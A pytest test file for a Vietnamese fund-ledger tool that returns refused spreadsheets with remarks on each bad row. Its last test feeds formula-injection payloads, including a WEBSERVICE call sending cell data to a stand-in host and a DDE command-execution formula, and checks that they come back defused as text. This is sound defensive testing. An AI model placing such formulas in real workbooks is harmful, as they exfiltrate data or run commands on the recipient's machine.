"""A refused table comes back as a workbook that says on each row what is wrong with it."""

from __future__ import annotations

import re
from datetime import date
from pathlib import Path
from zipfile import ZipFile

import pytest
from python_calamine import load_workbook

from fundledger.errors import BadFile, FundledgerError
from fundledger.exchange.remarks import write_with_remarks
from fundledger.files import SourceFile
from fundledger.messages import say_in
from tests.exchange.mutated import written
from tests.exchange.odd_files import (
    FIELDS,
    HEADINGS,
    SHEET,
    Formula,
    Row,
    good_rows,
    problems_of,
    save_csv,
    save_workbook,
    with_cell,
)
from tests.exchange.readers import read_entries

TITLE = "Lỗi / What is wrong"


def returned(path: Path, tmp_path: Path, sheet: str = SHEET) -> list[list[object]]:
    write_with_remarks(
        SourceFile.at(path), problems_of(path), tmp_path / "back.xlsx", lang="vi", replace=True
    )
    return load_workbook(tmp_path / "back.xlsx").get_sheet_by_name(sheet).to_python()


def bad_table() -> list[Row]:
    rows = [*with_cell("debit", 0.5), *good_rows()]
    rows[0][FIELDS.index("voucher")] = "XX"
    rows[2][0] = "2"
    rows[2][FIELDS.index("document")] = Formula("=Z1", "#REF!")
    rows[3][FIELDS.index("credit")] = Formula("=I4")
    return [["Quỹ hỗ trợ"], [], HEADINGS, *rows]


def test_each_bad_row_says_what_is_wrong(tmp_path: Path) -> None:
    back = returned(save_workbook(tmp_path / "q2.xlsx", bad_table()), tmp_path)
    remarks = [row[13] for row in back]
    assert remarks[:3] == ["", "", TITLE]
    assert remarks[3] == (
        "cột F (Loại phiếu): “XX” không phải là loại phiếu. "
        "Hãy dùng một trong: PT, PC, BC, BN, PK.\n"
        "cột I (Nợ): 0.5 có phần lẻ; số tiền phải là đồng nguyên. "
        "Hãy làm tròn, trong Excel dùng =ROUND(…;0)."
    )
    assert remarks[4] == ""
    assert remarks[5] == "cột E (Chứng từ): Ô báo lỗi #REF!. Hãy sửa công thức, hoặc gõ giá trị."
    assert str(remarks[6]).startswith("cột J (Có): Công thức =I4 chưa có kết quả")


def test_the_table_itself_is_as_it_was(tmp_path: Path) -> None:
    back = returned(save_workbook(tmp_path / "q2.xlsx", bad_table()), tmp_path)
    assert back[0][0] == "Quỹ hỗ trợ"
    assert back[2][:13] == list(HEADINGS)
    assert back[3][:4] == ["1", date(2023, 6, 30), "", "Thu nợ gốc quý II"]
    assert back[3][7:9] == [11211, 0.5]
    assert back[4][11] == "0900123456"
    assert back[5][4] == "#REF!"


def test_mended_it_is_taken_with_the_remarks_still_in_it(tmp_path: Path) -> None:
    path = save_workbook(tmp_path / "q2.xlsx", bad_table())
    mended = returned(path, tmp_path)
    mended[3][5], mended[3][8] = "BC", 20_000_000
    mended[5][4], mended[6][9] = "", 20_000_000
    again = save_workbook(tmp_path / "again.xlsx", mended)
    assert len(read_entries(SourceFile.at(again))) == 2
    mended[3][8] = "x"
    mended[4].append("")
    back = returned(save_workbook(tmp_path / "again.xlsx", mended), tmp_path)
    assert back[2].count(TITLE) == 1
    assert back[5][13] == ""
    assert str(back[3][13]).startswith("cột I (Nợ): “x”")


def test_a_csv_comes_back_as_a_workbook(tmp_path: Path) -> None:
    path = save_csv(tmp_path / "q2.csv", [HEADINGS, *with_cell("date", "31/06/2023")])
    back = returned(path, tmp_path, "CSV")
    assert back[1][7] == "11211"
    assert back[1][13] == "cột B (Ngày): Không có ngày 31/06/2023 trên lịch."


def test_what_is_wrong_with_the_whole_stands_at_the_headings(tmp_path: Path) -> None:
    path = save_workbook(tmp_path / "q2.xlsx", [HEADINGS])
    back = returned(path, tmp_path)
    assert str(back[0][13]).startswith(f"{TITLE}\nTệp không có bút toán nào.")
    assert [problem.key for problem in problems_of(tmp_path / "back.xlsx")] == ["entries.none"]


def test_nothing_is_overwritten_unasked(tmp_path: Path) -> None:
    path = save_workbook(tmp_path / "q2.xlsx", bad_table())
    problems = problems_of(path)
    for out, key in ((path, "remarks.same_file"), (tmp_path / "old.xlsx", "face.file_exists")):
        out.touch()
        before = out.read_bytes()
        with pytest.raises(FundledgerError) as refused:
            write_with_remarks(SourceFile.at(path), problems, out)
        assert refused.value.key == key
        assert out.read_bytes() == before
    same = tmp_path / "copy.xlsx"
    same.write_bytes(path.read_bytes())  # a copy is the original to whoever has no paths
    with pytest.raises(FundledgerError) as refused:
        write_with_remarks(SourceFile.at(path), problems, same, replace=True)
    assert refused.value.key == "remarks.same_file"
    same.unlink()
    with pytest.raises(FundledgerError) as refused:
        write_with_remarks(SourceFile.at(path), problems, tmp_path / "no" / "folder.xlsx")
    assert refused.value.key == "face.file_unwritable"
    assert sorted(file.name for file in tmp_path.iterdir()) == ["old.xlsx", "q2.xlsx"]


def test_what_is_no_table_cannot_come_back(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text("entries: 5", encoding="utf-8")
    with pytest.raises(FundledgerError) as refused:
        write_with_remarks(SourceFile.at(tmp_path / "a.yaml"), [], tmp_path / "b.xlsx")
    assert refused.value.key == "remarks.no_table"
    (tmp_path / "a.xlsx").write_bytes(b"")
    with pytest.raises(BadFile):
        write_with_remarks(SourceFile.at(tmp_path / "a.xlsx"), [], tmp_path / "b.xlsx")
    assert not (tmp_path / "b.xlsx").exists()


def test_merged_cells_and_truth_values_come_back_as_they_were(tmp_path: Path) -> None:
    """Else the unmended return would be taken: what was wrong with it would be gone."""
    path = tmp_path / "q2.xlsx"
    rows = [*with_cell("account", True), *good_rows()]
    written(path, {SHEET: [list(HEADINGS), *rows]}, merged=(3, 8, 4, 8))
    problems = problems_of(path)
    assert {problem.key for problem in problems} == {"cell.boolean", "table.merged"}
    write_with_remarks(SourceFile.at(path), problems, tmp_path / "back.xlsx")
    again = problems_of(tmp_path / "back.xlsx")
    assert [(p.key, p.place.row, p.place.column) for p in again] == [
        (p.key, p.place.row, p.place.column) for p in problems
    ]


def test_the_headings_stay_in_sight_and_on_every_page(tmp_path: Path) -> None:
    returned(save_workbook(tmp_path / "q2.xlsx", bad_table()), tmp_path)
    with ZipFile(tmp_path / "back.xlsx") as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        book = parts.read("xl/workbook.xml").decode()
    assert '<pane ySplit="3"' in sheet
    assert 'orientation="landscape"' in sheet
    assert "$3:$3</definedName>" in book


def part(path: Path, name: str) -> str:
    with ZipFile(path) as parts:
        return parts.read(name).decode()


def test_the_cell_that_is_meant_says_so_itself(tmp_path: Path) -> None:
    """Also where nothing stands in it: the memo of the first row, in column D, is missing."""
    rows = good_rows()
    rows[0][FIELDS.index("memo")] = None
    rows[1][FIELDS.index("credit")] = 0.5
    returned(save_workbook(tmp_path / "q2.xlsx", [HEADINGS, *rows]), tmp_path)
    comments = part(tmp_path / "back.xlsx", "xl/comments1.xml")
    assert re.findall(r'<comment ref="(\w+)"', comments) == ["D2", "J3"]
    assert "Thiếu “Diễn giải”" in comments
    assert "0.5 có phần lẻ" in comments
    sheet = part(tmp_path / "back.xlsx", "xl/worksheets/sheet1.xml")
    empty, whole = (re.search(rf'<c r="{cell}" s="(\d+)"', sheet) for cell in ("D2", "D3"))
    assert empty is not None
    assert whole is None  # nothing stands there, and nothing is wrong with it


def test_the_lists_to_choose_from_are_offered_again(tmp_path: Path) -> None:
    rows = with_cell("voucher", "XX")
    path = save_workbook(tmp_path / "q2.xlsx", [["Quỹ"], [], HEADINGS, *rows])
    returned(path, tmp_path)
    sheet = part(tmp_path / "back.xlsx", "xl/worksheets/sheet1.xml")
    rule = re.search(r'<dataValidation type="list"[^>]*sqref="([^"]+)"><formula1>([^<]*)', sheet)
    assert rule is not None
    assert rule[1].startswith("F4:F")  # from below the headings on
    assert rule[2] == '"PT,PC,BC,BN,PK"'


def test_what_is_wrong_with_the_whole_file_stands_in_the_sheet(tmp_path: Path) -> None:
    """No heading is known, or nothing stands in the sheet at all: it is said all the same."""
    for name, rows in (("a", [["xin chào"]]), ("b", [HEADINGS]), ("c", [[]])):
        path = save_workbook(tmp_path / f"{name}.xlsx", rows)
        problems = problems_of(path)
        assert problems
        back = returned(path, tmp_path)
        cells = [str(cell) for row in back for cell in row]
        said = [say_in("vi", problem.key, **problem.params) for problem in problems]
        assert all(any(sentence in cell for cell in cells) for sentence in said), name


def test_a_long_remark_is_seen_whole(tmp_path: Path) -> None:
    """Ten bad cells in one row: ten sentences need at least ten lines of 15 points."""
    bad = [["x" if name != "entry" else "1" for name in FIELDS]]
    returned(save_workbook(tmp_path / "q2.xlsx", [HEADINGS, *bad]), tmp_path)
    sheet = part(tmp_path / "back.xlsx", "xl/worksheets/sheet1.xml")
    row = re.search(r'<row r="2"[^>]* ht="([\d.]+)"', sheet)
    assert row is not None
    assert float(row[1]) >= 75


@pytest.mark.parametrize(
    ("formula", "comes_back_as"),
    [
        ("=I9+SUM(I2:I8)*2", "formula"),  # reckons with what stands in the table
        ('=WEBSERVICE("http://x.example/"&A1)', "text"),  # these reach out of the file
        ('=HYPERLINK("http://x.example/","mở")', "text"),
        ("=cmd|'/c calc'!A0", "text"),
        ("='[khác.xlsx]Sheet1'!A1", "text"),
        ("=RTD(A1,A2,A3)", "text"),
    ],
)
def test_a_formula_that_reaches_out_comes_back_as_a_text(
    tmp_path: Path, formula: str, comes_back_as: str
) -> None:
    """It was in a stranger's file, never calculated; in ours Excel would calculate it at once."""
    path = save_workbook(tmp_path / "q2.xlsx", [HEADINGS, *with_cell("debit", Formula(formula))])
    returned(path, tmp_path)
    sheet = part(tmp_path / "back.xlsx", "xl/worksheets/sheet1.xml")
    assert ("<f>" in sheet) is (comes_back_as == "formula")
